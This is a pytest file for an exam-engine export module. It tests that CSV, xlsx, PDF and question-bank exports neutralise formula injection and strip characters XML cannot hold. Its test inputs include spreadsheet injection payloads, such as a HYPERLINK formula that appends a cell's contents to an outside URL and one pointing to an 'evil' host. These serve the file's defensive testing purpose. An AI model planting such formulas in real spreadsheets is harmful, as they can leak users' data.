"""The one rule every export writes text through (OWASP CSV injection; characters XML cannot hold)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from exam_engine.export_cells import csv_row, pdf_text, sheet_title
from question_bank.analysis import analyse_items
from question_bank.analysis_xlsx import analysis_xlsx


@pytest.mark.parametrize(
    "text", ["=1+1", "+7 777", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", '=HYPERLINK("http://x/?"&A1,"Open")']
)
def test_a_csv_cell_that_could_start_a_formula_gets_an_apostrophe_and_keeps_its_text(text):
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([text]))
    (cell,) = next(csv.reader(io.StringIO(out.getvalue())))
    assert cell == "'" + text


def test_numbers_and_ordinary_text_pass_unchanged_and_controls_are_dropped():
    assert csv_row([-3, 88, None, "Ұланов Ерсұлтан", "a\x0bb\x1dc\x00"]) == ["-3", "88", "", "Ұланов Ерсұлтан", "a bc"]
    assert pdf_text("Академия\x0bполиции\x1f") == "Академия полиции"


def test_a_sheet_title_drops_what_excel_refuses():
    assert sheet_title("G1\x0b[A]:*?/\\", "x") == "G1  A"
    assert sheet_title("\x1d", "journal") == "journal"
    assert len(sheet_title("Я" * 40, "x")) == 31


def test_the_item_analysis_writes_a_question_text_as_text_not_a_formula():
    responses = [{"q0": 0}, {"q0": 1}, {"q0": 0}]
    data = analysis_xlsx(
        analyse_items(responses, {"q0": 0}, option_counts={"q0": 4}),
        labels={"q0": '=HYPERLINK("http://evil/","Ашу")\x0b2+2\x1d'},
    )
    cell = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]["B2"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://evil/","Ашу") 2+2', "s")


def test_bank_exports_carry_no_character_xml_cannot_hold():
    from exam_engine.export_cells import ILLEGAL
    from question_bank.export import export_gift, export_platonus
    from question_bank.model import Item
    from question_bank.parse import parse_bank

    item = Item(
        text="Қылмыс\x0bдегеніміз не?\x1d", options=("Әрекет", "Ой\x0c", "Сөз", "Түс"), correct=0, topic="Құқық\x1f"
    )
    for fmt, text in (("gift", export_gift([item])), ("platonus", export_platonus([item]))):
        assert not ILLEGAL.search(text), fmt
        (back,) = parse_bank(text.encode("utf-8"), language="kk", format=fmt).items
        assert back.text == "Қылмыс дегеніміз не?" and back.options[1] == "Ой", fmt
